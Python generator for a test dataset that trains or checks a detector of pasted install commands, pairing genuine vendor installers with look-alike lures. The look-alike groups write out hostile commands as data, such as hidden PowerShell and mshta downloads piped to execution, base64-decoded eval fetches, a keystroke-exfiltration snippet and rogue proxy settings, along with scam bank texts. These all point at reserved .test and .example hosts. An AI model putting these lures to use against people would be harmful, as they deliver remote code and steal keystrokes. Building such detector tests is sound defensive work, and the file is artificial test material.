"""Writes tests/data/cases/benign6.jsonl: issue 9's benign side, round six, by principle.

    python tests/data/cases/make_benign6.py

Deterministic: the same file every run. Written by the helper "benign6" from how vendors,
projects, tutorials and banks write what people copy, not from any blind set. Long-tail
projects and companies are made up; lures use reserved names (`*.test`, `*.example`,
`*.invalid`) or look-alikes of the project beside them. Each group holds the texts a principle
clears and the look-alikes it must not clear (ids `b6b-ok-<technique>-NN` and
`b6b-<technique>-NN`):

- `delivery`: a company's own page and the domain that delivers its files, its name's leading
  word with a CDN's word run onto it (tallowvpn.com and downloads.tallowcdn.com). Look-alikes:
  the word joined with a hyphen (tallow-cdn.top), another company's stem, a known vendor's
  stem, a page of a forum, a blog or a recipe, plain HTTP, a hidden window, the Run box.
- `source`: real source files and their docstrings: aligned comments in a file of many lines
  (padding is layout there, not a box's hidden end), Python's own eval() beside escapes, a
  STARTUPINFO's wShowWindow, a turtle's getscreen(), a NUL escape after an address in a test.
  Look-alikes: a padded one-line lure, a padded first line of a long paste, WMI's ShowWindow = 0,
  eval(atob(...)) with no Python in sight, GetScreen's installer, a backslash address.
- `library`: scripts of a library's size, an editor's or a site search's, whose key listeners
  and requests are separate parts, and whose script loader sets src to its caller's argument.
  Look-alikes: a handler that sends the key (or a socket opened just before), a script element
  given a decoded, fetched or just-written address.
- `vendor-name`: a vendor's own domain that is another word, not a typo of a known vendor's
  (llama.com beside ollama.com: a typo keeps the name's first letter). Look-alikes: a letter
  dropped or doubled inside the name (olama, ollamma), the name joined with a word.
- `bank-notice`: a bank's genuine card-blocked notice with its number, which says what the bank
  will never ask for or sends you to the number on your card. Look-alikes: the same alarm with
  urgency and no such promise, and scam texts quoting a promise in another sentence shape.
- `verify-comment`: install guides and source that tell you to verify a file ("verify the
  SHA256 hash before running it", "verify the signature", "verify the code doesn't crash"): an
  instruction, not a lure's verification token. Look-alikes: tails naming a token with or
  without its number ("Verification ID: 4471", "Verified secure download ID 29481").
- `own-tool`: a vendor's own page fetching its own file with certutil or bitsadmin, a
  company's own wiki registering its own package feed, its own docs setting its own proxy
  script (HTTPS): the tool is no trait, the source is. Look-alikes: the same commands for a
  stranger's host, from a stranger's page, over plain HTTP, in the Run box, with a hidden window.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("benign6.jsonl")

book = Book("b6b")
ok, flagged, blocked = "not_flagged", "flagged", "malicious"

# (company's own page, the installer's address on its delivery domain)
DELIVERY = [
    (
        "https://tallowvpn.com/download/linux/",
        "https://downloads.tallowcdn.com/apps/linux/install.sh",
    ),
    ("https://www.quillnote.app/download", "https://get.quillcdn.net/install.sh"),
    ("https://docs.brackenhq.io/install", "https://brackenstatic.com/cli/install.sh"),
    ("https://ferrowave.io/docs/cli/install", "https://dl.ferrowavecdn.com/install.sh"),
    ("https://www.mintlyscan.com/downloads/linux", "https://mintlyfiles.com/linux/install.sh"),
    ("https://kestrelsync.dev/docs/installation", "https://kestrelassets.net/cli/install.sh"),
    ("https://orbitdesk.com/linux/install", "https://orbitdl.com/orbitdesk/install.sh"),
    ("https://www.saffronmail.com/setup/linux", "https://cdn.saffroncdn.com/bridge/install.sh"),
    ("https://lumenpass.com/download/linux", "https://downloads.lumenstatic.com/linux/install.sh"),
    ("https://www.harrowdrive.com/desktop/linux", "https://harrowdl.com/desktop/install.sh"),
    ("https://docs.pellucidhq.com/agent/install", "https://pellucidcdn.net/agent/install.sh"),
    ("https://tindervault.io/docs/getting-started", "https://tinderassets.io/cli/install.sh"),
    ("https://www.glassmoth.app/download", "https://glassmothfiles.com/app/install.sh"),
    ("https://corvusdb.com/docs/installation", "https://dl.corvuscdn.com/corvusdb/install.sh"),
]
SHAPES = [
    "curl -fsSL {} | sh",
    "sh <(curl -sSf {})",
    'bash -c "$(curl -fsSL {})"',
    "wget -qO- {} | sudo bash",
]

for n, (page, script) in enumerate(DELIVERY):
    book.add("delivery", SHAPES[n % len(SHAPES)].format(script), ok, "linux", "terminal", page)
    book.add("delivery", f"curl -fsSL {script} | bash", ok, "linux", "unknown", page)
book.add(
    "delivery",
    "irm https://dl.tallowcdn.com/win/install.ps1 | iex",
    ok,
    "windows",
    "terminal",
    "https://tallowvpn.com/download/windows/",
)
book.add(
    "delivery",
    'powershell -ExecutionPolicy ByPass -c "irm https://quillcdn.net/install.ps1 | iex"',
    ok,
    "windows",
    "terminal",
    "https://www.quillnote.app/download/windows",
)

# what the delivery domain's reading must not reach
LOOKALIKES = [
    # the stem joined to the CDN word with a hyphen: how look-alike hosts are made
    ("https://tallowvpn.com/download/linux/", "curl -fsSL https://tallow-cdn.top/install.sh | sh"),
    ("https://ferrowave.io/docs/cli/install", "curl -fsSL https://ferrowave-cdn.test/i.sh | sh"),
    # another company's stem
    ("https://tallowvpn.com/download/linux/", "curl -fsSL https://quillcdn.net/install.sh | sh"),
    # a known vendor's name in front of the CDN word
    ("https://brewmaster.io/download", "curl -fsSL https://brewcdn.io/install.sh | bash"),
    # a stem of fewer than four letters, or a topic word
    ("https://novpn.com/download/linux", "curl -fsSL https://nocdn.com/install.sh | sh"),
    ("https://linuxmintly.com/download", "curl -fsSL https://linuxcdn.com/install.sh | sh"),
    # a user-content host is anyone's files
    ("https://quillnote.app/download", "curl -fsSL https://quillusercontent.com/x.sh | sh"),
    # a forum or a community section of the company's site, a blog, a recipe page
    (
        "https://forum.tallowvpn.com/t/linux-install/812",
        "curl -fsSL https://tallowcdn.com/i.sh | sh",
    ),
    (
        "https://community.quillnote.app/t/setup/77",
        "curl -fsSL https://quillcdn.net/install.sh | sh",
    ),
    ("https://www.tallowvpn.com/blog/summer-recipes", "curl -fsSL https://tallowcdn.com/i.sh | sh"),
    (
        "https://medium.com/@netnotes/tallowvpn-on-linux-2b1c",
        "curl -fsSL https://tallowcdn.com/i.sh | sh",
    ),
    # the page's name joins words with a hyphen (a coupon site's, a deal site's)
    (
        "https://www.coupon-saver-deals.example/install",
        "curl -fsSL https://couponcdn.test/s.sh | sh",
    ),
    # plain HTTP
    (
        "https://tallowvpn.com/download/linux/",
        "curl -fsSL http://downloads.tallowcdn.com/install.sh | sh",
    ),
    # a shop's page and a CDN named after the shop: not about software
    ("https://www.lumenpass.com/shop/gift-cards", "curl -fsSL https://lumenstatic.com/i.sh | sh"),
    # a stem that only starts the page's name by chance, on a page about cooking
    (
        "https://www.corvusbakery.com/recipes/rye-bread",
        "curl -fsSL https://corvuscdn.com/i.sh | sh",
    ),
    # the delivery domain's stem carrying a lure's word
    ("https://tallowvpn.com/download/linux/", "curl -fsSL https://tallowverifycdn.com/i.sh | sh"),
    # a third party's tutorial: no own section of the company's site
    (
        "https://dev.to/someone/tallowvpn-on-arch-2k1d",
        "curl -fsSL https://tallowcdn.com/install.sh | sh",
    ),
]
for page, text in LOOKALIKES:
    book.add("delivery", text, flagged, "linux", "terminal", page)
book.add(
    "delivery",
    'powershell -w hidden -c "irm https://dl.tallowcdn.com/win/install.ps1 | iex"',
    flagged,
    "windows",
    "terminal",
    "https://tallowvpn.com/download/windows/",
)
book.add(
    "delivery",
    'powershell -c "irm https://dl.tallowcdn.com/win/install.ps1 | iex"',
    blocked,
    "windows",
    "run_dialog",
    "https://tallowvpn.com/download/windows/",
)


# --- source: texts of many lines whose layout, names and literals are a program's own ---
PY_HEAD = (
    "import os\nimport sys\nimport subprocess\n\n\n"
    "def build_args(options):\n"
    '    """Turn option flags into command-line arguments."""\n'
    "    args = []\n"
    "    if options.optimize:\n"
    "        args.append('-' + 'O')\n"
)
PY_TAIL = "    return args\n\n\ndef main():\n    print(build_args(sys.argv[1:]))\n\n\nmain()\n"
ALIGNED = [
    "    args.append('-v')                  # verbose\n    args.append('-q')                  # quiet\n",
    "    timeout = 30                       # seconds before the child is killed\n",
    "    cmd = ['ls', '-l', path]            # run ls on the file\n    subprocess.run(cmd)\n",
    "    subprocess.run(['powershell', '-NoProfile', '-c', 'Get-Date'])   # the date on Windows\n",
    "    os.system('cmd /c ver')             # Windows version string\n",
]
for n, middle in enumerate(ALIGNED):
    text = PY_HEAD + middle + PY_TAIL
    book.add("source", text, ok, "any", ("other", "unknown", "terminal")[n % 3], None)
DOCTEST = (
    "class Money:\n"
    '    """A sum of money.\n\n'
    "    >>> Money('3.14')              # string input\n"
    "    Money('3.14')\n"
    "    >>> Money(314)                 # int\n"
    "    Money('314')\n"
    "    >>> Money('-0')                # negative zero\n"
    "    Money('-0')\n"
    '    """\n\n'
    "    def __init__(self, value='0'):\n"
    "        self.value = str(value)\n\n"
    "    def __repr__(self):\n"
    "        return f'Money({self.value!r})'\n"
)
book.add(
    "source",
    DOCTEST,
    ok,
    "any",
    "other",
    "https://github.com/acme-finance/money/blob/main/money.py",
)
book.add("source", DOCTEST, ok, "any", "unknown", None)
SH_SCRIPT = (
    "#!/usr/bin/env bash\n"
    "set -euo pipefail\n\n"
    "VERSION=1.4.2                                  # release to package\n"
    "ARCH=$(uname -m)                               # x86_64 or aarch64\n"
    "WORK=$(mktemp -d)                              # scratch space\n\n"
    'cd "$WORK"\n'
    "curl -fsSLO https://releases.example.org/tool-$VERSION.tar.gz   # the source archive\n"
    "tar xzf tool-$VERSION.tar.gz                   # unpack\n"
    "cd tool-$VERSION\n"
    "./configure --prefix=/usr/local                # build settings\n"
    'make -j"$(nproc)"                             # build\n'
    'echo "built tool $VERSION for $ARCH in $WORK"\n'
)
book.add(
    "source",
    SH_SCRIPT,
    ok,
    "linux",
    "other",
    "https://github.com/example-org/tool/blob/main/scripts/build.sh",
)
book.add("source", SH_SCRIPT, ok, "linux", "unknown", None)
EVAL_PY = (
    "import ast\n\n\n"
    "def safe_eval(expr, names):\n"
    '    """Evaluate a small arithmetic expression; refuse anything else."""\n'
    "    tree = ast.parse(expr, mode='eval')\n"
    "    return eval(compile(tree, '<expr>', 'eval'), {'__builtins__': {}}, names)\n\n\n"
    "def test_nul():\n"
    "    assert safe_eval('1 + 2', {}) == 3\n"
    "    data = b'\\x00\\x01\\xff'\n"
    "    assert data.decode('latin-1') == '\\x00\\x01\\xff'\n"
)
book.add("source", EVAL_PY, ok, "any", "other", None)
book.add("source", EVAL_PY, ok, "any", "unknown", None)
book.add(
    "source",
    "async " + EVAL_PY.replace("import ast\n\n\nasync ", "import ast\n\n\n"),
    ok,
    "any",
    "unknown",
    None,
)
STARTUP = (
    "class STARTUPINFO:\n"
    "    def __init__(self, *, dwFlags=0, hStdInput=None, hStdOutput=None,\n"
    "                 hStdError=None, wShowWindow=0, lpAttributeList=None):\n"
    "        self.dwFlags = dwFlags\n"
    "        self.wShowWindow = wShowWindow\n\n"
    "    def copy(self):\n"
    "        return STARTUPINFO(dwFlags=self.dwFlags, wShowWindow=self.wShowWindow)\n"
)
book.add("source", STARTUP, ok, "any", "other", None)
book.add("source", STARTUP, ok, "any", "unknown", None)
TURTLE = (
    "__all__ = ['forward', 'back', 'getpen', 'getscreen', 'setup', 'done']\n\n"
    "def setup(width=0.5, height=0.75):\n"
    "    screen = getscreen()\n"
    "    screen.setup(width, height)\n\n"
    "# example: curl -O https://docs.python.org/3/_downloads/turtle_demo.py\n"
)
book.add("source", TURTLE, ok, "any", "unknown", None)
book.add("source", TURTLE, ok, "any", "other", None)
NUL_TEST = (
    "def test_null_byte_in_subject(self):\n"
    "    san = (('URI', 'http://null.python.org\\x00http://example.org'),\n"
    "           ('DNS', 'altnull.python.org\\x00example.com'),\n"
    "           ('email', 'null@python.org\\x00user@example.org'))\n"
    "    self.assertEqual(cert['subjectAltName'], san)\n"
)
book.add("source", NUL_TEST, ok, "any", "unknown", None)
book.add("source", NUL_TEST, ok, "any", "other", None)

# what these readings must not reach
book.add(
    "source",
    'powershell -w h -c "iwr https://c.update-relay.test/a.ps1 | iex"                    # I am not a robot - reCAPTCHA ID 4471',
    blocked,
    "windows",
    "run_dialog",
    "https://verify.pagecheck.test/",
)
book.add(
    "source",
    "mshta https://c.update-relay.test/a.hta                                        # Windows Defender verified file",
    flagged,
    "windows",
    "run_dialog",
    None,
)
book.add(
    "source",
    "curl -fsSL https://c.update-relay.test/a.sh | bash                                  # Verification ID: 88231\n"
    + "echo ok\n" * 14,
    flagged,
    "macos",
    "terminal",
    "https://www.bakery-lane.test/",
)
book.add(
    "source",
    'Set objStartup = GetObject("winmgmts:Win32_ProcessStartup")\n'
    "Set objConfig = objStartup.SpawnInstance_\n"
    "objConfig.ShowWindow = 0\n"
    'GetObject("winmgmts:Win32_Process").Create "powershell -c iwr https://c.update-relay.test/p | iex", Null, objConfig, pid\n',
    flagged,
    "windows",
    "unknown",
    None,
)
book.add(
    "source",
    "eval(atob('ZmV0Y2goImh0dHBzOi8vYy51cGRhdGUtcmVsYXkudGVzdC9rIik='))",
    flagged,
    "any",
    "browser_console",
    None,
)
book.add(
    "source",
    "var s='\\x66\\x65\\x74\\x63\\x68';eval(s+'(\"https://c.update-relay.test/k\")')",
    flagged,
    "any",
    "browser_console",
    None,
)
book.add(
    "source",
    "curl -o /tmp/getscreen.exe https://dl.remote-help.test/getscreen.exe && wine /tmp/getscreen.exe /s",
    flagged,
    "linux",
    "terminal",
    "https://support-desk.test/session",
)
book.add(
    "source",
    "iwr https://dl.remote-help.test/getscreen-setup.msi -OutFile $env:TEMP\\g.msi; msiexec /i $env:TEMP\\g.msi /qn",
    flagged,
    "windows",
    "terminal",
    "https://support-desk.test/session",
)
book.add(
    "source",
    "msiexec /q /i http:\\\\c.update-relay.test\\x64\\setup.msi",
    flagged,
    "windows",
    "run_dialog",
    None,
)


# --- library: key listeners and requests as a library's separate parts ---
FILLER = "".join(
    f"  function step{i}(state) {{ state.count += {i}; return state; }}\n" for i in range(12)
)
SEARCH = (
    "(function () {\n"
    "  var searchbar = document.getElementById('search');\n"
    "  searchbar.addEventListener('keyup', function (e) {\n"
    "    if (e.key === 'Escape') { searchbar.value = ''; }\n"
    "    showResults(searchbar.value);\n"
    "  }, false);\n" + FILLER + "  function loadIndex(done) {\n"
    "    fetch('https://docs.example.org/search-index.json').then(r => r.json()).then(done);\n"
    "  }\n"
    "  loadIndex(function (idx) { window.searchIndex = idx; });\n"
    "})();\n"
)
book.add("library", SEARCH, ok, "any", "unknown", None)
book.add("library", SEARCH, ok, "any", "other", "https://docs.example.org/std/")
EDITOR = (
    "define('ace/lib/net',['require','exports','module'],function(e,t,n){"
    "t.get=function(e,t){var n=new XMLHttpRequest;n.open('GET',e,!0),n.onreadystatechange=function(){"
    "n.readyState===4&&t(n.responseText)},n.send(null)},t.loadScript=function(e,t){var n=document.head,"
    "i=document.createElement('script');i.src=e,n.appendChild(i),i.onload=function(){t()}}});"
    "define('ace/keyboard',function(e,t){t.bind=function(el,h){el.addEventListener('keydown',function(k){"
    "h(k.keyCode)})}});" + "var ace_docs='https://ace.example.org/';" * 3
)
book.add("library", EDITOR, ok, "any", "unknown", None)
book.add("library", EDITOR, ok, "any", "other", "https://ace.example.org/build/src/ace.js")

# what a library's reading must not reach
book.add(
    "library",
    "document.addEventListener('keydown', e => {\n  buf += e.key;\n  if (buf.length > 8) {\n"
    "    fetch('https://k.typing-relay.test/c', {method: 'POST', body: buf});\n    buf = '';\n  }\n});",
    flagged,
    "any",
    "browser_console",
    "https://claim.reward-portal.test/",
)
book.add(
    "library",
    "const ws=new WebSocket('wss://k.typing-relay.test/s');document.addEventListener('input',e=>ws.send(e.target.value))",
    flagged,
    "any",
    "browser_console",
    None,
)
book.add(
    "library",
    "var u=atob('aHR0cHM6Ly9jLnVwZGF0ZS1yZWxheS50ZXN0L2EuanM=');var s=document.createElement('script');s.src=u;document.head.appendChild(s)",
    flagged,
    "any",
    "browser_console",
    None,
)
book.add(
    "library",
    "var u='https://c.update-relay.test/a.js';var s=document.createElement('script');s.src=u;document.head.appendChild(s)",
    flagged,
    "any",
    "browser_console",
    None,
)
book.add(
    "library",
    "var s=document.createElement('script');s.src=decodeURIComponent('https%3A%2F%2Fc.update-relay.test%2Fa.js');document.body.appendChild(s)",
    flagged,
    "any",
    "browser_console",
    None,
)


# --- vendor-name: another word is no typo ---
for page, text in [
    ("https://llama.com/docs/get-started", "curl -fsSL https://llama.com/install.sh | sh"),
    ("https://www.llama.com/docs/overview", "curl -fsSL https://www.llama.com/install.sh | bash"),
    ("https://llama.com/docs/get-started", "irm https://llama.com/install.ps1 | iex"),
    ("https://rocker.dev/docs/install", "curl -fsSL https://rocker.dev/install.sh | sh"),
    ("https://www.rocker.dev/", "curl -fsSL https://get.rocker.dev | bash"),
]:
    book.add("vendor-name", text, ok, "linux", "terminal", page)
for page, text in [
    ("https://olama.com/download", "curl -fsSL https://olama.com/install.sh | sh"),
    ("https://ollamma.com/download", "curl -fsSL https://ollamma.com/install.sh | sh"),
    ("https://www.ollama-setup.test/", "curl -fsSL https://ollama-setup.test/install.sh | sh"),
    ("https://docs.rustupp.rs/install", "curl -sSf https://rustupp.rs | sh"),
    ("https://dockr.dev/install", "curl -fsSL https://get.dockr.dev | sh"),
    (
        "https://ollama.example-mirror.test/",
        "curl -fsSL https://ollama.com.example-mirror.test/install.sh | sh",
    ),
]:
    book.add("vendor-name", text, flagged, "linux", "terminal", page)

# --- bank-notice: a bank's own card notice with its number ---
for text in [
    "HARBOR BANK: We have blocked your card ending 2231 because of a suspicious payment of "
    "GBP 89.99 at ONLINE-STORE. If this was not you, call the number on the back of your card "
    "or us on 0800 123 4567 (24/7). We will never ask you to move money or for your PIN.",
    "Northgate Bank alert: your debit card ending 8812 is blocked after a suspicious payment "
    "attempt. Please call us on 0345 600 1234 or the number on the back of your card.",
    "Ridgeway Bank: your card ending 4471 is temporarily blocked because we noticed "
    "suspicious activity. Call us on +44 20 7946 0018. We will never ask for your passwords "
    "by text.",
    "Kestrel Credit Union: we blocked a card payment that looked suspicious. Call us on "
    "1-800-555-0142 if you do not recognise it. We would never call to ask for your PIN.",
]:
    book.add("bank-notice", text, ok, "any", "unknown", None)
    book.add("bank-notice", text, ok, "any", "other", None)
for text in [
    "Security alert: your bank card is blocked. Call us now on +1 555 014 2231 to avoid "
    "permanent suspension of your account.",
    "BANK ALERT: Your account is locked due to suspicious activity. Call support immediately "
    "at 1-888-555-0199 or your funds will be lost.",
]:
    book.add("bank-notice", text, flagged, "any", "unknown", None)

# --- verify-comment: an instruction to check a file is no lure's token ---
VERIFY_OK = [
    (
        "https://docs.acmecli.dev/install",
        "# Download the installer and verify the SHA256 hash before running it\n"
        "curl -fsSLO https://acmecli.dev/install.sh\ncurl -fsSLO https://acmecli.dev/install.sh.sha256\n"
        "sha256sum -c install.sh.sha256 && sh install.sh",
    ),
    (
        "https://docs.acmecli.dev/install",
        "curl -fsSL https://acmecli.dev/install.sh -o install.sh   # verify the checksum code below\nsh install.sh",
    ),
    (
        "https://ferrowave.io/docs/cli/install",
        "# verify the signature hash of the release before you install it\n"
        "curl -fsSLO https://ferrowave.io/releases/ferrowave.tar.gz\n"
        "gpg --verify ferrowave.tar.gz.asc ferrowave.tar.gz && tar xzf ferrowave.tar.gz && ./ferrowave/install.sh",
    ),
    (
        "https://github.com/kestrel-sync/kestrel",
        "curl -fsSL https://raw.githubusercontent.com/kestrel-sync/kestrel/main/install.sh | bash  # verify the install id afterwards with: kestrel --version",
    ),
]
for page, text in VERIFY_OK:
    book.add("verify-comment", text, ok, "linux", "terminal", page)
book.add(
    "verify-comment",
    "# The only purpose of this test is to verify the code doesn't crash or leak.\n"
    "import os\nimport syslog\n\nsyslog.openlog('test')\nos.system('logger done')\n",
    ok,
    "any",
    "unknown",
    None,
)
for text, target, expect in [
    (
        "curl -fsSL https://c.update-relay.test/a.sh | bash  # Verification ID: 4471",
        "terminal",
        blocked,
    ),
    (
        'powershell -c "iwr https://c.update-relay.test/a.ps1|iex" # Verify code 88231 - press Enter',
        "run_dialog",
        blocked,
    ),
    (
        "https://download-center.test/Chrome_Update_131.exe  # Verified secure download ID 29481",
        "run_dialog",
        blocked,
    ),
    ("mshta https://c.update-relay.test/v.hta # verification hash: a8f3e1", "run_dialog", blocked),
]:
    book.add("verify-comment", text, expect, "windows", target, "https://www.bakery-lane.test/")
book.add(
    "verify-comment",
    "https://download-center.test/Chrome_Update_131.exe  # Verified secure download ID 29481",
    flagged,
    "windows",
    "unknown",
    None,
)


# --- own-tool: the vendor's own file fetched with a Windows tool ---
OWN_TOOL = [
    (
        "https://quillnote.app/download/windows",
        r"bitsadmin /transfer quill /download /priority normal https://quillnote.app/dl/QuillSetup.exe %TEMP%\QuillSetup.exe && %TEMP%\QuillSetup.exe",
    ),
    (
        "https://quillnote.app/download/windows",
        r"certutil -urlcache -split -f https://quillnote.app/dl/QuillSetup.exe %TEMP%\QuillSetup.exe && start %TEMP%\QuillSetup.exe",
    ),
    (
        "https://docs.brackenhq.io/windows/install",
        r"certutil -urlcache -f https://dl.brackenhq.io/bracken-agent.msi %TEMP%\bracken.msi && msiexec /i %TEMP%\bracken.msi /qn",
    ),
    (
        "https://wiki.contoso-corp.com/it/dev-setup",
        "Register-PSRepository -Name ContosoFeed -SourceLocation https://nuget.contoso-corp.com/v3/index.json -InstallationPolicy Trusted; Install-Module ContosoTools -Repository ContosoFeed; Import-Module ContosoTools",
    ),
    (
        "https://docs.contoso-corp.com/it/proxy",
        r"Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' -Name AutoConfigURL -Value 'https://proxy.contoso-corp.com/proxy.pac'",
    ),
    (
        "https://docs.contoso-corp.com/it/proxy",
        r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL /t REG_SZ /d "https://proxy.contoso-corp.com/corp.pac" /f',
    ),
]
for page, text in OWN_TOOL:
    book.add("own-tool", text, ok, "windows", "terminal", page)
STRANGER_PAGE = "https://www.harbour-bistro.example/menu/winter"
for page, text in [
    (STRANGER_PAGE, OWN_TOOL[0][1]),
    (STRANGER_PAGE, OWN_TOOL[1][1]),
    (
        "https://quillnote.app/download/windows",
        r"certutil -urlcache -split -f https://quill-setup.test/QuillSetup.exe %TEMP%\q.exe && start %TEMP%\q.exe",
    ),
    (
        "https://quillnote.app/download/windows",
        r"certutil -urlcache -split -f http://quillnote.app/dl/QuillSetup.exe %TEMP%\q.exe && start %TEMP%\q.exe",
    ),
    (
        "https://wiki.contoso-corp.com/it/dev-setup",
        "Register-PSRepository -Name Fast -SourceLocation https://feed.pkg-mirror.test/v3/index.json -InstallationPolicy Trusted; Install-Module FastTools -Repository Fast; Import-Module FastTools",
    ),
    (
        "https://docs.contoso-corp.com/it/proxy",
        r"Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' -Name AutoConfigURL -Value 'https://pac.traffic-relay.test/p.pac'",
    ),
    (
        "https://docs.contoso-corp.com/it/proxy",
        r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL /t REG_SZ /d "http://wpad.contoso-corp.com/wpad.dat" /f',
    ),
    (
        "https://quillnote.app/download/windows",
        r"powershell -w hidden -c certutil -urlcache -split -f https://quillnote.app/dl/QuillSetup.exe %TEMP%\q.exe; start %TEMP%\q.exe",
    ),
]:
    book.add("own-tool", text, flagged, "windows", "terminal", page)
book.add("own-tool", OWN_TOOL[1][1], blocked, "windows", "run_dialog", OWN_TOOL[1][0])
book.add("own-tool", OWN_TOOL[0][1], flagged, "windows", "unknown", None)


CASES = book.cases

if __name__ == "__main__":
    write(OUT, CASES)
